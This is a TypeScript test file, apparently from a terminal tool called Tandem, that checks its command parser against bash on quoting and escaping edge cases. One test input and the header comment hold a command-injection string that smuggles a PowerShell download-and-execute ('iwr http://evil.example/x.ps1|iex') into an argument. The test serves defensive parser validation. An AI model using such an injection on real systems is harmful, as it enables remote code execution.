// The reader of commandParts.ts against the shell the "Tandem" terminal runs (bash, commandShell.ts):
// for each command it reads as one part, bash itself is asked which words it passes. A command bash
// read as more than that (the report's `"a\";iwr …|iex;…"`) would print other words or run something.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { commandParts } from '../../../src/core/tools/commandParts';

/** The words bash passes to `p` for `p …` (history expansion on, as in an interactive bash). */
function bashWords(command: string): string[] {
  const script = `set -H; p() { for a in "$@"; do printf '%s\\0' "$a"; done; }; ${command}`;
  const out = execFileSync('bash', ['--norc', '--noprofile', '-c', script], { encoding: 'utf8' });
  return out === '' ? [] : out.slice(0, -1).split('\0');
}

describe('commandParts agrees with bash on the words of one command', () => {
  for (const command of [
    'p status "a\\";iwr http://evil.example/x.ps1|iex;echo \\"b"',
    'p \'a;b\' "c|d" e\\&f "g&&h" \'i`j\'',
    'p "a\\\\b" \'c\\d\' e\\\\f "g\\h"',
    'p "a\\$b" "c\\`d"',
    'p a"b"\'c\'d',
    'p --x=y "-c" \'\' ""',
    'p a\\ b "c d"',
    'p "\\"" \'x\'"\'"\'y\'',
    'p a~b a=b a#b "#c"',
    'p 2>&1',
    'p "a\nb"',
  ]) {
    it(JSON.stringify(command), () => {
      const reading = commandParts(command);
      assert.ok(reading.certain, reading.certain ? '' : reading.reason);
      const parts = reading.parts.filter((part) => !part.redirect);
      assert.equal(parts.length, 1, 'read as one command');
      assert.deepEqual(bashWords(command), parts[0].words.slice(1), 'bash passes the words the reader read');
    });
  }
});
